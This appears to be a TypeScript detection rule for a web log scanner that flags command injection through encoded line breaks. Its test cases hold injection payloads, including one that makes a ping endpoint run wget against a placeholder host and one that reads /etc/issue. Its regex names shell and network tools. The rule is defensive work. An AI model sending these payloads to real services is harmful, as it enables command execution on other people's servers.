import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'cmdi/newline-command',
  title: 'Line break and a command',
  why: 'A line break ends a shell command like a semicolon does, and filters forget it.',
  ja: {
    title: '改行に続くコマンド',
    why: '改行もセミコロンと同じようにコマンドを終わらせますが、フィルターはこれを見落としがちです。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1059.004', 'T1190'],
  cwe: [78, 93],
  refs: [
    'https://owasp.org/www-community/attacks/Command_Injection',
    'https://cwe.mitre.org/data/definitions/93.html',
  ],

  where: ['path', 'query', 'referrer', 'agent'],
  // A line break cannot be a literal of the gate, but it never stands in a log as itself.
  needs: [['%0a', '%0d', '%250a', '%250d', '\\x0a', '\\x0d', '\\n', '\\r']],
  match:
    /[\r\n]\s?(?:(?:\/usr)?\/s?bin\/)?(?:id|cat|ls|wget|curl|whoami|uname|ping|sleep|nslookup|ifconfig|ipconfig|bash|sh|dir|cd|rm|chmod|echo|netstat|nc|python|perl|php)(?:$|[\r\n&;|`]|[\s+]{1,3}(?:--?[a-z\d]|\d|["']?[$./~\\]|https?:|[\w-]{1,40}\.[a-z]))/i,

  hits: [
    'GET /ping?host=127.0.0.1%0Aid HTTP/1.1',
    'GET /ping?host=127.0.0.1%0a/bin/cat%20/etc/issue HTTP/1.1',
    'GET /ping?host=a%0d%0awget%20http://203.0.113.9/x HTTP/1.1',
    ...each(
      'GET /ping?host=127.0.0.1%0A{} HTTP/1.1',
      `ls curl whoami uname ping sleep nslookup ifconfig ipconfig bash sh dir cd rm chmod echo netstat nc
    python perl php`,
    ),
    'GET /ping?host=a%0d%0awget;//203.0.113.9/x HTTP/1.1',
    'GET /ping?host=a%0d%0awget%20-a//203.0.113.9/x HTTP/1.1',
    'GET /ping?host=a%0d%0awget%201//203.0.113.9/x HTTP/1.1',
    'GET /127.0.0.1%0Aid HTTP/1.1',
    { request: 'GET / HTTP/1.1', referrer: 'https://www.example.com/ping?host=127.0.0.1%0Aid' },
    ...each('GET /ping?host=1{}id HTTP/1.1', '%0D %250A %250D \\x0a \\x0d \\n \\r'),
  ],
  misses: [
    'GET /note?text=first%0Acat+and+dog HTTP/1.1',
    'GET /note?text=a%0Aidea HTTP/1.1',
    'GET /note?text=a%0D%0ALocation HTTP/1.1',
    {
      message:
        'upstream timed out, request: "GET /ping?host=127.0.0.1%0a/bin/cat%20/etc/issue HTTP/1.1"',
    },
  ],
})
